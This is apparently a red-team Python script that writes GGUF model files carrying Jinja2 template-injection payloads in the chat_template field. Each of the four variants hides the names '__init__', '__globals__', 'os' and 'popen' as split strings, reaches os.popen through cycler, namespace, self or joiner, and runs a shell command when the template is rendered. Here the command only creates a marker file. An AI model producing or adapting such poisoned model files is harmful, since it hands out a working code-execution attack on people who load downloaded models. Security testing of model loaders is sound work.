import struct
def gguf(template):
    def s(x): x = x.encode(); return struct.pack("<Q", len(x)) + x
    kv = s("general.architecture") + struct.pack("<I", 8) + s("llama")
    kv += s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + kv
pre = "{% set u = '_' %}{% set d = u ~ u %}{% set k = d ~ 'init' ~ d %}{% set g = d ~ 'globals' ~ d %}{% set m = 'o' ~ 's' %}{% set p = 'po' ~ 'pen' %}"
T = {
 "gguf_callinst": pre + "{% set c = cycler(1) %}{{ c[k][g][m][p]('touch /tmp/rt16/pwned_gguf_callinst')['read']() }}",
 "gguf_nsinst": pre + "{% set c = namespace() %}{{ c[k][g][m][p]('touch /tmp/rt16/pwned_gguf_nsinst')['read']() }}",
 "gguf_self": pre + "{% set c = self %}{{ c[k][g][m][p]('touch /tmp/rt16/pwned_gguf_self')['read']() }}",
 "gguf_forlist": pre + "{% for c in [joiner] %}{{ c[k][g][m][p]('touch /tmp/rt16/pwned_gguf_forlist')['read']() }}{% endfor %}",
}
for n,t in T.items(): open(f"fn_{n}.gguf","wb").write(gguf(t))
